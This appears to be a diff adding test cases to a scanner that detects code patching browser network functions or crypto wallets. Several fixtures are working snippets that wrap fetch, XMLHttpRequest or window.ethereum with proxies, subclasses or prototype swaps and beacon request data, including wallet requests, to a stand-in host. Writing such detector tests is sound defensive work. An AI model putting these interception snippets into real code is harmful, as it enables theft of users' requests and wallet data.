@@ -6,6 +6,48 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'a proxy stands before it',
+      files: {
+        'index.js': `window.fetch = new Proxy(window.fetch, { apply(f, self, o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return Reflect.apply(f, self, o) } });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a proxy stands before a wallet and gives out another request',
+      files: {
+        'index.js': `window.ethereum = new Proxy(window.ethereum, { get(wallet, key) { return key === 'request' ? o => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return wallet.request(o) } : wallet[key] } });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a class that extends it takes its place',
+      files: {
+        'index.js': `class Own extends XMLHttpRequest { send(o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return super.send(o) } } window.XMLHttpRequest = Own;`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'what is made in its place gets another method',
+      files: {
+        'index.js': `const Real = XMLHttpRequest; window.XMLHttpRequest = function () { const x = new Real(); const send = x.send; x.send = function (o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return send.call(x, o) }; return x };`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'its prototype is exchanged',
+      files: {
+        'index.js': `Object.setPrototypeOf(window.ethereum, { request(o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)) } });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'its prototype is exchanged by name',
+      files: {
+        'index.js': `window.ethereum.__proto__ = { request(o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)) } };`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'what is given to a replaced function is sent elsewhere',
       files: {
         'index.js': `const f = window.fetch;
@@ -50,6 +92,13 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     {
       when: 'a library for tracing wraps fetch',
       files: { 'index.js': `const real = globalThis.fetch; globalThis.fetch = (...a) => real(...a)` },
+      weight: 'weak',
+    },
+    {
+      when: 'a proxy counts requests and reports the number',
+      files: {
+        'index.js': `let count = 0; window.fetch = new Proxy(window.fetch, { apply(f, self, o) { count++; return Reflect.apply(f, self, o) } }); setInterval(() => navigator.sendBeacon('https://sink.invalid/', String(count)), 1000);`,
+      },
       weight: 'weak',
     },
     { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
